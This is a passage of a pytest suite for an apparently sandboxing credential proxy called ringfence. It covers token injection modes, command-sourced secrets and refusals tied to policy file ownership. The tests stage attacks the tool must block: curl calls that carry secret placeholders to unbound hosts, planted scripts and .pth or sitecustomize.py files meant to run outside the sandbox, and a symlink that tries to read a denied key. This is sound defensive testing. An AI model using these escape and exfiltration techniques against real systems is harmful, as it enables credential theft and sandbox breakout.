    assert "[network] allow" not in summary[0], summary
    r = run(one, CURL + "http://never.test/ >/dev/null; " + CURL +
            '-H "X-T: $GITHUB_TOKEN" http://good.test/seen >/dev/null', p)
    summary = [l for l in r.stderr.splitlines() if "proxy blocked" in l]
    assert len(summary) == 1, r.stderr
    assert "a name goes in [network] allow" in summary[0], summary
    assert "plaintext = yes in its [credential github]" in summary[0], summary
    assert "allow_cidr" not in summary[0] and "hosts" not in summary[0], summary


def test_openssl_loaded_only_when_a_run_intercepts_tls(one):
    # The binary does not link libssl (no DT_NEEDED): it loads it when a
    # [credential] needs TLS interception, and refuses the run, before the
    # command starts, when it cannot.  A libssl.so.3 that the loader finds
    # first (LD_LIBRARY_PATH) stands for a broken or missing one: junk, and
    # a library without the functions.
    junk = one.write("badssl/junk/libssl.so.3", "not a library\n")
    empty = one.path("badssl", "empty", "libssl.so.3")
    os.makedirs(os.path.dirname(empty))
    subprocess.run(["cc", "-shared", "-o", empty, "-x", "c", "/dev/null"], check=True)
    libs = (junk, empty)
    # no TLS to intercept: libssl is never looked at
    plain = one.net_policy(ALLOW)
    for lib in libs:
        r = run(one, "echo ran", plain, env={"LD_LIBRARY_PATH": os.path.dirname(lib)})
        assert r.returncode == 0 and r.stdout == "ran\n", (lib, r.stderr)
    with_cred = policy(one)  # (the same file, rewritten)
    for lib in libs:
        r = run(one, "echo ran", with_cred, env={"LD_LIBRARY_PATH": os.path.dirname(lib)})
        assert r.returncode == 125 and r.stdout == "", (lib, r.stdout, r.stderr)
        lines = r.stderr.strip().splitlines()
        assert len(lines) == 1 and "TLS interception needs OpenSSL" in lines[0], r.stderr
        assert "libssl.so.3" in lines[0], lines[0]
    assert "has no " in lines[0], lines[0]  # the empty library: a function it lacks
    # positive control: the same policy with the distribution's libssl
    r = run(one, 'echo "$GITHUB_TOKEN"', with_cred)
    assert r.returncode == 0 and r.stdout.startswith("ringfence_github_"), r.stderr


# ---- inject = and require = ------------------------------------------------

S = {"HDR": "hdr-Secret-0001/+=value", "BEAR": "bear_Secret_0002_value",
     "BASICP": "basicp:Secret 0003", "BASICU": "basicu_Secret_0004", "Q": "q/Secret&0005 =x"}
MODE_CREDS = "".join(
    "[credential %s]\nenv = %s_TOKEN\nsource = env:RF_%s\nhosts = good.test\ninject = %s\n%s"
    % (n.lower(), n, n, inject, "%(extra)s")
    for n, inject in (("HDR", "header:X-Api-Key"), ("BEAR", "bearer"),
                      ("BASICP", "basic:apiuser"), ("BASICU", "basic-user"),
                      ("Q", "query:key")))
MODE_ENV = {"RF_" + k: v for k, v in S.items()}


def mode_script(scheme):
    u = scheme + "://good.test/seen"
    return "; ".join([
        CURL + '-H "X-Api-Key: $HDR_TOKEN" %s' % u,
        # the client writes the placeholder in Authorization in the form it
        # knows; the proxy sends the credential's form
        CURL + '-H "Authorization: token $BEAR_TOKEN" %s' % u,
        CURL + '-u "someone:$BASICP_TOKEN" %s' % u,
        CURL + '-H "Authorization: Bearer $BASICU_TOKEN" %s' % u,
        CURL + '"%s?a=1&key=$Q_TOKEN&b=2"' % u,
    ])


def check_modes(r):
    out = unhex(r.stdout)
    assert "X-Api-Key: %s\n" % S["HDR"] in out, out
    assert "Authorization: Bearer %s\n" % S["BEAR"] in out, out
    b = base64.b64encode(("apiuser:" + S["BASICP"]).encode()).decode()
    assert "Authorization: Basic %s\n" % b in out, out
    b = base64.b64encode((S["BASICU"] + ":").encode()).decode()
    assert "Authorization: Basic %s\n" % b in out, out
    assert "GET /seen?a=1&key=q%2FSecret%260005%20%3Dx&b=2\n" in out, out
    return out


def test_each_inject_mode_over_intercepted_https(cred):
    p = policy(cred, creds=MODE_CREDS % {"extra": ""})
    r = run(cred, mode_script("https"), p, env=MODE_ENV)
    assert r.returncode == 0, r.stderr
    check_modes(r)
    where = {(e["credential"], e["where"]) for e in cred.events("cred.inject")}
    assert where == {("hdr", "header"), ("bear", "header"), ("basicp", "basic"),
                     ("basicu", "basic"), ("q", "target")}, where
    text = audit(cred) + r.stderr
    assert not any(v in text for v in S.values())


def test_each_inject_mode_over_plain_http(one):
    p = policy(one, creds=MODE_CREDS % {"extra": "plaintext = yes\n"})
    r = run(one, mode_script("http"), p, env=MODE_ENV)
    assert r.returncode == 0, r.stderr
    check_modes(r)
    assert {e["proto"] for e in one.events("cred.inject")} == {"http"}


def test_an_inject_mode_puts_the_secret_nowhere_else(cred):
    """A placeholder outside its credential's one place, on its own host, is
    refused (a path or header the API echoes is not where the policy put the
    secret); to any other host it is refused as before; the secret never
    reaches either."""
    p = policy(cred, creds=MODE_CREDS % {"extra": "plaintext = yes\n"})
    tries = [
        ("query", 'https://good.test/headers?x=$HDR_TOKEN'),
        ("other header", '-H "X-Other: $HDR_TOKEN" https://good.test/headers'),
        ("authorization", '-H "Authorization: Bearer $HDR_TOKEN" https://good.test/headers'),
        ("bearer elsewhere", '-H "X-Api-Key: $BEAR_TOKEN" https://good.test/headers'),
        ("query in the path", 'https://good.test/$Q_TOKEN/headers'),
        ("query other param", '"https://good.test/headers?other=$Q_TOKEN"'),
        ("query lowercased", '"https://good.test/headers?key=$(echo $Q_TOKEN | tr A-Z a-z)"'),
        ("unbound host", '-H "X-Api-Key: $HDR_TOKEN" http://other.test/headers'),
        ("unbound host bearer", '-H "Authorization: token $BEAR_TOKEN" http://other.test/headers'),
        ("unbound host query", '"http://other.test/headers?key=$Q_TOKEN"'),
    ]
    script = "; ".join("echo %s=$(%s-o /dev/null -w '%%{http_code}' %s)" % (
        n.replace(" ", "_"), CURL, a) for n, a in tries)
    # positive control in the same run: the place itself works
    script += "; " + CURL + '-H "X-Api-Key: $HDR_TOKEN" https://good.test/seen'
    r = run(cred, script, p, env=MODE_ENV)
    assert r.returncode == 0, r.stderr
    for n, _ in tries:
        assert "%s=403" % n.replace(" ", "_") in r.stdout, (n, r.stdout, r.stderr)
    assert "X-Api-Key: %s\n" % S["HDR"] in unhex(r.stdout)
    text = audit(cred) + r.stdout + r.stderr
    assert not any(v in text for v in S.values())
    blocks = cred.events("cred.block")
    assert any("outside the X-Api-Key header" in e["reason"] for e in blocks), blocks
    assert any("outside the query parameter key" in e["reason"] for e in blocks), blocks
    assert [e for e in cred.events("cred.inject")] == [
        e for e in cred.events("cred.inject") if e["credential"] == "hdr"]


REQUIRE = ("[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
           "hosts = good.test\ninject = bearer\nrequire = yes\n")


def test_require_refuses_a_request_without_the_placeholder(cred):
    p = policy(cred, creds=REQUIRE)
    code = "-o /dev/null -w '%{http_code}\\n' "
    r = run(cred, "; ".join([
        CURL + "https://good.test/headers -w '\\n%{http_code}\\n'",
        # another host is not the credential's: no placeholder needed
        CURL + code + "http://other.test/headers",
        # positive control: with it, in any form Authorization takes
        CURL + '-H "Authorization: Bearer $GITHUB_TOKEN" https://good.test/seen',
    ]), p)
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert "403" in lines[:3], r.stdout
    assert "does not carry the placeholder of credential github in Authorization" in r.stdout
    assert "200" in lines, r.stdout
    assert "Authorization: Bearer %s\n" % SECRET in unhex(r.stdout)
    miss = [e for e in cred.events("cred.block") if e["where"] == "missing"]
    assert len(miss) == 1 and miss[0]["credential"] == "github", cred.events()
    assert miss[0]["host"] == "good.test"
    assert SECRET not in audit(cred)


def test_require_with_the_default_inject(one):
    p = policy(one, creds="[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
               "hosts = good.test\nrequire = yes\n")
    r = run(one, CURL + "-o /dev/null -w '%{http_code}\\n' https://good.test/headers; " +
            CURL + '"https://good.test/seen?t=$GITHUB_TOKEN"', p)
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("403\n"), r.stdout
    assert "GET /seen?t=%s\n" % SECRET in unhex(r.stdout)


BAD_KEYS = [
    ("inject = header:Host", "the proxy writes Host itself"),
    ("inject = header:", "is not a header name"),
    ("inject = basic:a:b", "a Basic user name has no ':'"),
    ("inject = query:a=b", "a query parameter name"),
    ("inject = cookie", "is not replace, header:NAME"),
    ("require = maybe", "credential.require"),
    ("ttl = 5m", "ttl is for source = cmd: only"),
]


@pytest.mark.parametrize("line,msg", BAD_KEYS, ids=[b[0] for b in BAD_KEYS])
def test_bad_inject_and_require_refuse_to_start(one, line, msg):
    p = policy(one, creds="[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
               "hosts = good.test\n%s\n" % line)
    r = run(one, "echo ran", p)
    assert r.returncode == 125 and r.stdout == "", (r.stdout, r.stderr)
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and msg in lines[0] and "policy.ini:" in lines[0], r.stderr


# ---- source = cmd: ----------------------------------------------------------

# The command: counts its runs in a file outside the sandbox, says who ran
# it, prints a secret that names the run (padded with blanks and a line
# end, which are trimmed).  FAIL_FROM: the run from which it exits 1;
# SLOW_FROM: the run from which it marks its start in its own directory
# (the sandbox's write grants are hidden from it), takes 1.5 s, then marks
# its end.
CMD_SCRIPT = r'''
dir=$(dirname "$0")
n=$(cat "$dir/count" 2>/dev/null || echo 0); n=$((n + 1)); echo $n > "$dir/count"
id -u > "$dir/uid"
[ -n "@FAIL_FROM@" ] && [ $n -ge 0@FAIL_FROM@ ] && { echo "broken" >&2; exit 1; }
if [ -n "@SLOW_FROM@" ] && [ $n -ge 0@SLOW_FROM@ ]; then
    touch "@WORK@/started-$n"; sleep 1.5; touch "@WORK@/finished-$n"
fi
printf '  cmd-secret-run-%s-0123456789  \n' $n
'''


def cmd_box(box, fail_from="", slow_from="", ttl="2s", timeout="1s", inject="bearer",
            extra=""):
    d = box.path("cmd")
    os.makedirs(d, exist_ok=True)
    script = box.write("cmd/token.sh", CMD_SCRIPT.replace("@FAIL_FROM@", str(fail_from))
                       .replace("@SLOW_FROM@", str(slow_from)).replace("@WORK@", d))
    if box.user == "nobody":
        os.chown(d, NOBODY, NOBODY)
    creds = ("[credential tok]\nenv = TOK\nsource = cmd:/bin/sh %s\nhosts = good.test\n"
             "inject = %s\nttl = %s\ntimeout = %s\n%s" % (script, inject, ttl, timeout, extra))
    return policy(box, creds=creds)


def cmd_secret(n):
    return "cmd-secret-run-%d-0123456789" % n


def test_cmd_source_is_fetched_again_after_its_ttl(cred):
    p = cmd_box(cred)
    hdr = '-H "Authorization: Bearer $TOK" '
    r = run(cred, CURL + hdr + "https://good.test/seen; sleep 2.2; " +
            CURL + hdr + "https://good.test/seen", p)
    assert r.returncode == 0, r.stderr
    out = unhex(r.stdout)
    seen = re.findall(r"Authorization: Bearer (\S+)", out)
    assert len(seen) == 2, out
    runs = [int(re.match(r"cmd-secret-run-(\d+)-", v).group(1)) for v in seen]
    assert [cmd_secret(n) for n in runs] == seen, seen
    # fetched again (at half the ttl, and again): a later run's output
    later = runs[1]
    assert later > runs[0], seen
    with open(cred.path("cmd", "count")) as f:
        assert int(f.read()) >= later
    # run as the user who started ringfence, outside the sandbox (the
    # count file is not granted to it)
    with open(cred.path("cmd", "uid")) as f:
        assert int(f.read()) == (0 if cred.user == "root" else NOBODY)
    text = audit(cred) + r.stderr
    assert "cmd-secret-run" not in text
    assert [e["where"] for e in cred.events("cred.inject")] == ["header", "header"]


def test_a_value_stored_two_refreshes_ago_does_not_come_back(cred):
    """A command that mints a token at each call (a vault's, STS's) leaves
    the older ones valid. The sandbox stores the current one at a bound
    host (the proxy writes it into the query), waits for two refreshes, and
    reads it back: the scan kept the current value and the one before, so
    the first came back in plaintext (found by an outside review)."""
    p = cmd_box(cred, inject="replace")
    r = run(cred, CURL + '"https://good.test/store/k?$TOK"; echo; ' +
            CURL + "https://good.test/stored/k; echo; sleep 4.5; " +
            CURL + "https://good.test/seen; echo; " +
            CURL + "https://good.test/stored/k; echo END", p)
    assert "END" in r.stdout, r.stdout + r.stderr
    assert cmd_secret(1) not in r.stdout, r.stdout
    # the control: two refreshes (three runs of the command) before the
    # last read, and the first value was the one stored
    with open(cred.path("cmd", "count")) as f:
        assert int(f.read()) >= 3
    assert "stored" in r.stdout, r.stdout
    refl = [e for e in cred.events("cred.reflect") if e["credential"] == "tok"]
    assert len(refl) == 2, cred.events()


def test_cmd_source_failing_later_is_a_502_naming_the_credential(one):
    p = cmd_box(one, fail_from=2)
    hdr = '-H "Authorization: Bearer $TOK" '
    r = run(one, CURL + hdr + "https://good.test/seen; sleep 2.2; " +
            CURL + hdr + "https://good.test/headers -w '\\n%{http_code}\\n'; " +
            # a request that does not carry it is not concerned
            CURL + "-o /dev/null -w '%{http_code}\\n' https://good.test/hello", p)
    assert r.returncode == 0, r.stderr
    out = unhex(r.stdout)
    assert "Authorization: Bearer %s\n" % cmd_secret(1) in out, out
    lines = r.stdout.strip().splitlines()
    assert lines[-2:] == ["502", "200"], r.stdout
    assert "the secret of credential tok is not available: it exited with status 1" in r.stdout
    errs = one.events("cred.error")
    assert errs and all(e["credential"] == "tok" for e in errs), one.events()
    assert any("exited with status 1" in e["reason"] for e in errs), errs
    assert cmd_secret(1) not in r.stdout and "cmd-secret-run" not in audit(one)


def test_a_slow_command_stalls_no_connection(one):
    """The refresh runs beside the proxy's loop: while the command takes
    1.5 s, requests (with the cached secret, and to another host) are
    answered; the next one after it ends carries the new secret."""
    d = one.path("cmd")
    p = cmd_box(one, slow_from=2, ttl="6s", timeout="3s", extra="[filesystem]\nread = %s\n" % d)
    hdr = '-H "Authorization: Bearer $TOK" '
    script = ("while [ ! -e %s/started-2 ]; do sleep 0.05; done; " % d +
              CURL + hdr + "https://good.test/seen; " +
              CURL + "http://other.test/hello; " +
              "[ -e %s/finished-2 ] && echo 'answered too late'; " % d +
              "while [ ! -e %s/finished-2 ]; do sleep 0.05; done; sleep 0.3; " % d +
              CURL + hdr + "https://good.test/seen")
    r = run(one, script, p, timeout=60)
    assert r.returncode == 0, r.stderr
    out = unhex(r.stdout)
    assert "answered too late" not in out, out
    assert "hello from" in out, out
    seen = re.findall(r"Authorization: Bearer (\S+)", out)
    assert seen == [cmd_secret(1), cmd_secret(2)], out


def test_cmd_source_failing_at_start(one):
    p = cmd_box(one, fail_from=1)
    r = run(one, "echo ran", p)
    assert r.returncode == 125 and r.stdout == "", (r.stdout, r.stderr)
    lines = r.stderr.strip().splitlines()
    assert re.match(r".*policy\.ini:\d+: credential\.source: \[credential tok\]: cmd: it exited "
                    r"with status 1$", lines[-1]), r.stderr
    # best-effort: said, and the credential is skipped
    p = cmd_box(one, fail_from=1, extra="[sandbox]\nenforcement = best-effort\n")
    r = run(one, 'echo "ran ${TOK-unset}"', p)
    assert r.returncode == 0 and r.stdout == "ran unset\n", (r.stdout, r.stderr)
    assert "cmd: it exited with status 1" in r.stderr and "skipped" in r.stderr


CMD_BAD = [
    ("not found", "cmd:/nonexistent/prog", "cannot run /nonexistent/prog: No such file"),
    ("empty output", "cmd:/bin/true", "it printed nothing"),
    ("control character", "cmd:/usr/bin/printf a\\nb\\x01", "control character"),
    ("timeout", "cmd:/bin/sleep 5\ntimeout = 300ms",
     "it did not finish within its timeout (300ms)"),
    ("no shell", "cmd:echo hi", "not an absolute path"),
]


@pytest.mark.parametrize("name,source,msg", CMD_BAD, ids=[b[0] for b in CMD_BAD])
def test_bad_commands_refuse_to_start(one, name, source, msg):
    p = policy(one, creds="[credential tok]\nenv = TOK\nsource = %s\nhosts = good.test\n"
               % source)
    r = run(one, "echo ran", p)
    assert r.returncode == 125 and r.stdout == "", (r.stdout, r.stderr)
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and msg in lines[0] and "policy.ini:" in lines[0], r.stderr


# A cmd: program runs outside the sandbox (as root, root): what it runs
# must be out of the sandbox's reach.  Each case plants, in the write grant,
# code that leaves a mark outside it when run, as a sandbox would have
# between two refreshes or two runs (found by an outside review).
PLANTED = "#!/bin/sh\ntouch @MARK@\necho planted-secret-0123456789\n"


def write_exec(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    os.chmod(path, 0o755)


def cmd_dir(box):
    """The directory outside the grants where the commands leave marks:
    the user's who starts ringfence (the command runs as that user)."""
    d = box.path("cmd")
    os.makedirs(d, exist_ok=True)
    if box.user == "nobody":
        os.chown(d, NOBODY, NOBODY)
    return d


CMD_REACH = ["program", "interpreter", "link", "argument", "option", "hard-link"]


@pytest.mark.parametrize("where", CMD_REACH)
def test_a_command_the_sandbox_may_change_refuses_to_start(cred, where):
    mark = os.path.join(cmd_dir(cred), "ran-" + where)
    planted = os.path.join(cred.work, "tools", "tok.sh")
    write_exec(planted, PLANTED.replace("@MARK@", mark))
    if where == "program":
        prog = planted
    elif where == "interpreter":
        # the caller's own script, whose "#!" names one in the project
        prog = cred.path("cmd", "cli")
        write_exec(prog, "#!%s\necho x\n" % planted)
    elif where == "option":
        # a path after an option's "=" (--config=/project/x)
        prog = "/bin/true --config=" + planted
    elif where == "hard-link":
        # a hard link of the caller's, outside, to the project's script:
        # the same file, whatever hides the project's name for it
        if cred.user == "root":
            pytest.skip("root's own hard links are not refused (/usr/bin/perl has two)")
        os.chown(planted, NOBODY, NOBODY)
        prog = cred.path("cmd", "tok-hard")
        os.link(planted, prog)
    elif where == "link":
        # a link of the caller's, outside, to the project's script
        prog = cred.path("cmd", "tok-link")
        os.symlink(planted, prog)
    else:
        # a shell of the system's, given the project's script to run
        prog = "/bin/sh " + planted
    p = policy(cred, creds="[credential tok]\nenv = TOK\nsource = cmd:%s\nhosts = good.test\n"
               % prog)
    r = run(cred, "echo ran", p)
    assert r.returncode == 125 and r.stdout == "", (r.stdout, r.stderr)
    assert ("could be changed by the sandbox" in r.stderr or
            "names what the sandbox could change" in r.stderr or
            "is a hard link of the command's user's" in r.stderr) and "policy.ini:" in r.stderr, \
        r.stderr
    assert not os.path.exists(mark), "the sandbox's code ran outside it"
    # the control: the same script outside the grants runs
    outside = cred.path("cmd", "tok-outside.sh")
    write_exec(outside, PLANTED.replace("@MARK@", mark))
    p = policy(cred, creds="[credential tok]\nenv = TOK\nsource = cmd:%s\nhosts = good.test\n"
               % outside)
    r = run(cred, 'echo "ran ${#TOK}"', p)
    assert r.returncode == 0 and r.stdout.startswith("ran "), (r.stdout, r.stderr)
    assert os.path.exists(mark)


def test_a_command_finds_nothing_the_sandbox_may_change_by_name(cred):
    """The caller's script, outside every grant, says #!/usr/bin/env
    python3; the caller's PATH starts with the project's .venv/bin (an
    activated virtual environment) and PYTHONPATH names the project: the
    sandbox's python3 and sitecustomize.py there ran outside it."""
    d = cmd_dir(cred)
    mark_py, mark_site = os.path.join(d, "ran-python3"), os.path.join(d, "ran-site")
    venv = os.path.join(cred.work, ".venv", "bin")
    write_exec(os.path.join(venv, "python3"), PLANTED.replace("@MARK@", mark_py))
    write_exec(os.path.join(cred.work, "lib", "sitecustomize.py"),
               "open(%r, 'w').close()\n" % mark_site)
    prog = cred.path("cmd", "cli")
    seen = os.path.join(d, "seen")
    write_exec(prog, "#!/usr/bin/env python3\nimport os\n"
               "open(%r, 'w').write(os.environ['PATH'] + '|' + os.environ.get('PYTHONPATH', '-'))\n"
               "print('cmd-secret-by-name-0123456789')\n" % seen)
    p = policy(cred, creds="[credential tok]\nenv = TOK\nsource = cmd:%s\nhosts = good.test\n"
               % prog)
    r = run(cred, 'echo "ran ${#TOK}"', p,
            env={"PATH": "%s:/usr/local/bin:/usr/bin:/bin" % venv,
                 "PYTHONPATH": os.path.join(cred.work, "lib")})
    assert r.returncode == 0 and r.stdout.startswith("ran "), (r.stdout, r.stderr)
    assert not os.path.exists(mark_py), "the project's python3 ran outside the sandbox"
    assert not os.path.exists(mark_site), "the project's sitecustomize.py ran outside the sandbox"
    # each layer on its own (the mount namespace would hide both anyway):
    # the command's PATH lost the project's entry, and PYTHONPATH is gone
    with open(seen) as f:
        path, pythonpath = f.read().split("|")
    assert path == "/usr/local/bin:/usr/bin:/bin" and pythonpath == "-", (path, pythonpath)


@pytest.mark.parametrize("how", ["userbase", "env-path", "home-site"])
def test_what_a_command_loads_from_a_write_grant_is_hidden_from_it(cred, how):
    """Past the checks of its paths, a command loads from where its
    variables or its "#!" line say: PYTHONUSERBASE naming the project (a
    .pth file there runs at Python's start), "#!/usr/bin/env -S PATH=...".
    The commands run where every write grant is an empty tmpfs (found by an
    outside review, with RUNPATH, bind mounts and others alike)."""
    d = cmd_dir(cred)
    mark = os.path.join(d, "ran-" + how)
    prog = os.path.join(d, "cli")
    env = {}
    if how == "userbase":
        base = os.path.join(cred.work, ".pyuser")
        write_exec(os.path.join(base, "lib", "python3.11", "site-packages", "x.pth"),
                   "import os; open(%r, 'w').close()\n" % mark)
        write_exec(prog, "#!/usr/bin/python3\nprint('cmd-secret-userbase-0123456789')\n")
        env["PYTHONUSERBASE"] = base
    elif how == "home-site":
        # HOME in the project (no variable of the dropped ones names it):
        # Python's user site there, ~/.local/lib/pythonX.Y/site-packages,
        # runs its .pth files; only the mask keeps it out
        write_exec(os.path.join(cred.work, ".local", "lib", "python3.11", "site-packages",
                                "x.pth"), "import os; open(%r, 'w').close()\n" % mark)
        write_exec(prog, "#!/usr/bin/python3\nprint('cmd-secret-homesite-0123456789')\n")
        env["HOME"] = cred.work
    else:
        write_exec(os.path.join(cred.work, "bin", "tok"), PLANTED.replace("@MARK@", mark))
        write_exec(prog, "#!/usr/bin/env -S PATH=%s/bin:/usr/bin:/bin tok\n" % cred.work)
    p = policy(cred, creds="[credential tok]\nenv = TOK\nsource = cmd:%s\nhosts = good.test\n"
               % prog)
    r = run(cred, 'echo "ran ${#TOK}"', p, env=env)
    assert not os.path.exists(mark), "the project's code ran outside the sandbox"
    if how in ("userbase", "home-site"):
        # the control: the command ran, its secret is there
        assert r.returncode == 0 and r.stdout.startswith("ran "), (r.stdout, r.stderr)
    else:
        assert r.returncode == 125 and "cmd: it exited with status 127" in r.stderr, r.stderr


def test_a_command_in_a_private_stand_in_refuses_to_start(cred):
    """A private path's stand-in (~/.local/state/ringfence/NAME/...) is the
    sandbox's to write though no write grant names it: a cmd: program
    there, written by an earlier run, ran as root (an outside review)."""
    if cred.user != "root":
        pytest.skip("nobody's home, and its state, are the work directory: a write grant")
    d = cmd_dir(cred)
    mark = os.path.join(d, "ran-standin")
    name = "rf-it-" + os.path.basename(cred.root)
    state = os.path.join("/root", ".local", "state", "ringfence", name)
    standin = os.path.join(state, ".rvtool")
    write_exec(os.path.join(standin, "tok.sh"), PLANTED.replace("@MARK@", mark))
    try:
        p = policy(cred, creds="[sandbox]\nname = %s\n[filesystem]\nprivate = ~/.rvtool/\n"
                   "[credential tok]\nenv = TOK\nsource = cmd:%s/tok.sh\nhosts = good.test\n"
                   % (name, standin))
        r = run(cred, "echo ran", p)
    finally:
        shutil.rmtree(state, ignore_errors=True)
    assert not os.path.exists(mark), "the stand-in's code ran outside the sandbox"
    assert r.returncode == 125 and "could be changed by the sandbox" in r.stderr, r.stderr


def test_root_without_cap_sys_admin_runs_a_command_with_the_grants_hidden(world):
    """Root in a container without CAP_SYS_ADMIN: no mount namespace of
    its own, but one in a user namespace of its own, as ringfence's
    sandbox itself takes there; the command runs (it refused to start)."""
    if os.geteuid() != 0:
        pytest.skip("needs root")
    b = NetBox(world, "root", "namespace")
    try:
        mark = os.path.join(cmd_dir(b), "saw")
        script = b.write("cmd/tok.sh", "ls -A %s > %s\necho cmd-secret-nocap-0123456789\n"
                         % (b.work, mark))
        b.write("work/planted.sh", "echo planted\n")
        p = policy(b, creds="[credential tok]\nenv = TOK\nsource = cmd:/bin/sh %s\n"
                   "hosts = good.test\n" % script)
        argv = ["ip", "netns", "exec", world.name, "setpriv", "--bounding-set=-sys_admin",
                "--inh-caps=-sys_admin", b.ringfence, "-p", p, "--", "sh", "-c",
                'echo "ran ${#TOK}"']
        r = subprocess.run(argv, cwd=b.work, env=b.env({"RF_SECRET": SECRET}),
                           capture_output=True, text=True, timeout=60)
        assert r.returncode == 0 and r.stdout.startswith("ran "), (r.stdout, r.stderr)
        with open(mark) as f:
            assert f.read() == "", "the command saw the write grant's files"
    finally:
        b.cleanup()


def test_a_hard_link_away_from_the_write_grants_runs(cred):
    """The control of the hard-link refusal: conda and single-user Nix
    hard-link the user's own interpreters; where no write grant's file
    system is, no other name of them can be the sandbox's, and the command
    runs (it refused to start)."""
    if cred.user == "root":
        pytest.skip("root's own hard links are not refused")
    d = tempfile.mkdtemp(prefix="rf-it-hardlink-", dir="/var/tmp")
    try:
        os.chmod(d, 0o755)
        tool = os.path.join(d, "tok.sh")
        write_exec(tool, "#!/bin/sh\necho cmd-secret-hardlink-0123456789\n")
        os.link(tool, os.path.join(d, "tok-again.sh"))
        os.chown(tool, NOBODY, NOBODY)
        assert os.stat(tool).st_dev != os.stat(cred.work).st_dev
        p = policy(cred, creds="[credential tok]\nenv = TOK\nsource = cmd:%s\nhosts = good.test\n"
                   % tool)
        r = run(cred, 'echo "ran ${#TOK}"', p)
        assert r.returncode == 0 and r.stdout.startswith("ran "), (r.stdout, r.stderr)
    finally:
        shutil.rmtree(d, ignore_errors=True)


def test_a_link_made_where_an_optional_file_source_was_absent_is_not_followed(cred):
    """source = file: beneath a write grant, optional and absent at the
    start: the sandbox made it a link to a file it cannot read, and the
    next run read that file as the secret and sent it to the bound host
    (found by an outside review)."""
    w2, keys = cred.path("w2"), cred.path("keys")
    os.makedirs(w2, exist_ok=True)
    os.makedirs(keys, exist_ok=True)
    key = os.path.join(keys, "other-token")
    with open(key, "w") as f:
        f.write("OTHER-DENIED-TOKEN-0123456789\n")
    if cred.user == "nobody":
        for d in (w2, keys, key):
            os.chown(d, NOBODY, NOBODY)
    creds = ("[filesystem]\nwrite = %s\n[credential tok]\nenv = TOK\nsource = file:%s/opt/.token\n"
             "optional = yes\nhosts = good.test\n" % (w2, w2))
    p = policy(cred, creds=creds)
    r = run(cred, "cat %s; mkdir -p %s/opt && ln -s %s %s/opt/.token && echo made" % (key, w2, key, w2), p)
    assert r.returncode == 0 and "made" in r.stdout, (r.stdout, r.stderr)
    assert "OTHER-DENIED" not in r.stdout  # the control: the file is not the sandbox's to read
    r = run(cred, CURL + '-H "Authorization: Bearer $TOK" https://good.test/seen', p)
    assert "OTHER-DENIED" not in unhex(r.stdout), r.stdout
    assert r.returncode == 125 and "a link on the way to it lies beneath a write grant" in r.stderr, \
        (r.stdout, r.stderr)


def test_a_key_beside_the_callers_ca_certificate_stays_out_of_the_bundle(cred):
    """SSL_CERT_FILE names a file holding a CA's private key beside its
    certificate (mitmproxy's -ca.pem), which the command may not read: the
    bundle made for the command carried the key (an outside review)."""
    keyed = cred.path("keys", "mitm-ca.pem")
    os.makedirs(os.path.dirname(keyed), exist_ok=True)
    key = subprocess.run(["openssl", "genpkey", "-algorithm", "EC", "-pkeyopt",
                          "ec_paramgen_curve:P-256"], capture_output=True, text=True, check=True)
    with open(cred.path("bin", "ca.pem")) as f:
        cert = f.read()
    with open(keyed, "w") as f:
        f.write(key.stdout + cert)
    os.chmod(keyed, 0o600)
    if cred.user == "nobody":
        os.chown(keyed, NOBODY, NOBODY)
    p = policy(cred)
    r = run(cred, 'cat %s; echo "keys $(grep -c PRIVATE "$SSL_CERT_FILE") '
            'certs $(grep -c "BEGIN CERTIFICATE" "$SSL_CERT_FILE")"' % keyed, p,
            env={"SSL_CERT_FILE": keyed})
    assert "PRIVATE" not in r.stdout.replace("keys 0", ""), r.stdout
    m = re.search(r"keys (\d+) certs (\d+)", r.stdout)
    assert m and m.group(1) == "0", (r.stdout, r.stderr)
    assert int(m.group(2)) >= 2, r.stdout  # the control: the caller's CA and ours are there


def test_cmd_as_root_needs_a_policy_only_root_could_write(world):
    if not os.geteuid() == 0:
        pytest.skip("needs root")
    b = NetBox(world, "root", "namespace")
    try:
        p = cmd_box(b)
        os.chmod(p, 0o666)
        r = run(b, "echo ran", p)
        assert r.returncode == 125 and r.stdout == "", (r.stdout, r.stderr)
        assert "cmd: would run as root" in r.stderr and "not root's alone" in r.stderr
        assert not os.path.exists(b.path("cmd", "count"))  # it never ran
        # positive control: the same file, root's alone
        os.chmod(p, 0o644)
        r = run(b, 'echo "$TOK"', p)
        assert r.returncode == 0 and r.stdout.startswith("ringfence_tok_"), r.stderr
        # a directory another user may write is not enough either
        os.chown(os.path.dirname(p), NOBODY, NOBODY)
        r = run(b, "echo ran", p)
        assert r.returncode == 125 and "a directory that is not root's alone" in r.stderr
        # nor one further up: whoever may write there may swap the whole
        # directory holding the policy (every one up to / is looked at)
        top = os.path.dirname(p)
        os.chown(top, 0, 0)
        sub = os.path.join(top, "sub")
        os.mkdir(sub, 0o755)
        q = os.path.join(sub, "policy.ini")
        shutil.copy(p, q)
        os.chmod(q, 0o644)
        r = run(b, 'echo "$TOK"', q)  # positive control: root's all the way up
        assert r.returncode == 0 and r.stdout.startswith("ringfence_tok_"), r.stderr
        os.chown(top, NOBODY, NOBODY)
        r = run(b, "echo ran", q)
        assert r.returncode == 125 and r.stdout == "", (r.stdout, r.stderr)
        assert "under a directory that is not root's alone" in r.stderr, r.stderr
    finally:
        b.cleanup()


def test_a_fetched_again_secret_is_not_reflected(one):
    """After a refresh the response scan looks for the new secret, also on a
    connection kept alive from before it (whose scan was made for the old)."""
    p = cmd_box(one)
    one.write("work/client.py", r'''
import os, time, requests
s = requests.Session()
h = {"Authorization": "Bearer " + os.environ["TOK"]}
print("first", s.get("https://good.test/seen", headers=h).status_code)
time.sleep(2.2)
try:
    r = s.get("https://good.test/headers", headers=h)
    print("echo", r.status_code, r.text)
except requests.exceptions.RequestException as e:
    print("echo cut", type(e).__name__)
''')
    r = one.run(["/usr/bin/python3", "client.py"], policy=p)
    assert r.returncode == 0, r.stderr
    assert "first 200" in r.stdout, r.stdout
